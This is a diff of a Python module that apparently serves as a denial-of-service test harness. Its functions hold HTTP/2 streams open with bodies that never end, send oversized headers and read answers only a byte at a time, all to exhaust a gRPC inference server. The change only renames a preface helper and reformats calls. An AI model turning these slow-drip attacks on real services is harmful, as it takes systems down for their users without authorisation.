@@ -122,14 +122,24 @@ def half_requests(victim: Victim) -> None:
     """Thousands of calls on each connection whose bodies do not end."""
     start = framed(message(1000))[:-1]
     calls = b"".join(begin(one, call_headers()) + data(one, start) for one in range(1, 2 * _STREAMS, 2))
-    _dripping(victim, http2.opening({}) + calls, http2.frame(http2.PING, payload=bytes(8)), http2_port=True)
+    _dripping(
+        victim,
+        http2.connection_preface({}) + calls,
+        http2.frame(http2.PING, payload=bytes(8)),
+        http2_port=True,
+    )
 
 
 def open_streams(victim: Victim) -> None:
     """Streams of ModelStreamInfer that are opened and not used."""
     block = call_headers("ModelStreamInfer")
     calls = b"".join(begin(one, block) for one in range(1, 2 * _STREAMS, 2))
-    _dripping(victim, http2.opening({}) + calls, http2.frame(http2.PING, payload=bytes(8)), http2_port=True)
+    _dripping(
+        victim,
+        http2.connection_preface({}) + calls,
+        http2.frame(http2.PING, payload=bytes(8)),
+        http2_port=True,
+    )
 
 
 def large_heads(victim: Victim) -> None:
@@ -139,7 +149,7 @@ def large_heads(victim: Victim) -> None:
     def talk() -> None:
         calls = (begin(one, call_headers() + field) for one in range(1, 2 * _STREAMS, 2))
         with Attack(victim.grpc, victim) as attack:
-            attack.pour(itertools.chain([http2.opening({})], calls))
+            attack.pour(itertools.chain([http2.connection_preface({})], calls))
             attack.drip(http2.frame(http2.PING, payload=bytes(8)), _DRIP_S)
 
     crowd(victim, 8, talk)
@@ -166,7 +176,7 @@ def unread_http2(victim: Victim) -> None:
     """Answers of a MiB over HTTP/2 to a client that does not read, but for a byte every few seconds."""
     body = framed(message(MIB // 4))
     calls = [begin(one, call_headers()) + body_frames(one, body) for one in range(1, 33, 2)]
-    _unread(victim, b"".join(calls), victim.grpc, http2.opening({}))
+    _unread(victim, b"".join(calls), victim.grpc, http2.connection_preface({}))
 
 
 def unread_http1(victim: Victim) -> None:
